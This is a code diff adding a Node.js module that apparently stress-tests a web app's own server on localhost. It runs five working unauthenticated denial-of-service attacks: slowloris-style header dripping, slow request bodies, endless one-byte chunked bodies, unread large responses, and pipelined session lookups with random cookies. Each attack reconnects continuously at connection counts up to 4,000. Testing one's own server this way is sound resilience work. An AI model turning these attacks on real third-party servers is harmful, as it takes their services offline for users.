@@ -1,0 +1,112 @@
+import { randomBytes } from 'node:crypto'
+import { connect } from 'node:net'
+
+/**
+ * Ways to use up a server's memory without signing in. Each opens so many connections, opens each anew when it ends, and
+ * `begin` says what one of them does; it returns what stops it.
+ */
+export const attacks = {
+  pipelining: { connections: 2, begin: pipeline },
+  unread: { connections: 400, begin: leaveUnread },
+  bodies: { connections: 600, begin: dripBody },
+  pieces: { connections: 100, begin: sendPieces },
+  connections: { connections: 4_000, begin: dripHeaders },
+}
+
+const host = 'Host: app.example'
+const post = [
+  'POST /api/siwe/verify HTTP/1.1',
+  host,
+  'Origin: https://app.example',
+  'Content-Type: application/json',
+]
+const asText = (...lines) => [...lines, '', ''].join('\r\n')
+
+/** Session look-ups with invented cookies, as fast as the connection takes them. */
+function pipeline(socket) {
+  socket.resume()
+  const look = () => {
+    const cookie = `Cookie: __Host-countersign_session=${randomBytes(32).toString('base64url')}`
+    return asText('GET /api/session HTTP/1.1', host, cookie)
+  }
+  const write = () => {
+    while (!socket.destroyed && socket.write(Array.from({ length: 50 }, look).join('')));
+  }
+  socket.on('drain', write)
+  write()
+  return () => {}
+}
+
+/** Large answers that are never read. */
+function leaveUnread(socket) {
+  socket.pause()
+  socket.write(asText('GET /large.svg HTTP/1.1', host).repeat(2))
+  // A socket that is not read notices its end only when it is written to.
+  const timer = setInterval(() => socket.write('x'), 5_000)
+  return () => clearInterval(timer)
+}
+
+/** A body of the longest length that comes a byte at a time. */
+function dripBody(socket) {
+  socket.resume()
+  socket.write(asText(...post, 'Content-Length: 65000'))
+  socket.write(' '.repeat(30_000))
+  const timer = setInterval(() => socket.write(' '), 20)
+  return () => clearInterval(timer)
+}
+
+/** A body in many thousand pieces of one byte, whose end never comes. */
+function sendPieces(socket) {
+  socket.resume()
+  socket.write(asText(...post, 'Transfer-Encoding: chunked'))
+  let left = 60
+  const timer = setInterval(() => {
+    if (left-- > 0) socket.write('1\r\n \r\n'.repeat(1_000))
+  }, 100)
+  return () => clearInterval(timer)
+}
+
+/** Headers that come a byte at a time. */
+function dripHeaders(socket) {
+  socket.resume()
+  socket.write(`GET / HTTP/1.1\r\n${host}\r\nX: `)
+  const timer = setInterval(() => socket.write('x'), 1_000)
+  return () => clearInterval(timer)
+}
+
+/** Begins an attack; returns its counts and what ends it. */
+export function attack(name, port) {
+  const { connections, begin } = attacks[name]
+  const counts = { opened: 0, ended: 0, answers: 0 }
+  const sockets = new Set()
+  let isOver = false
+  const open = () => {
+    if (isOver) return
+    const socket = connect(port, '127.0.0.1')
+    sockets.add(socket)
+    let stop = () => {}
+    socket.on('error', () => {})
+    socket.once('connect', () => {
+      counts.opened += 1
+      stop = begin(socket)
+    })
+    socket.on('data', (bytes) => {
+      counts.answers += bytes.toString('latin1').split('HTTP/1.1 ').length - 1
+    })
+    socket.once('close', () => {
+      stop()
+      sockets.delete(socket)
+      counts.ended += 1
+      setTimeout(open, 100)
+    })
+  }
+  for (let left = connections; left > 0; left -= 1) open()
+  return {
+    counts,
+    held: () => sockets.size,
+    end() {
+      isOver = true
+      for (const socket of sockets) socket.destroy()
+    },
+  }
+}
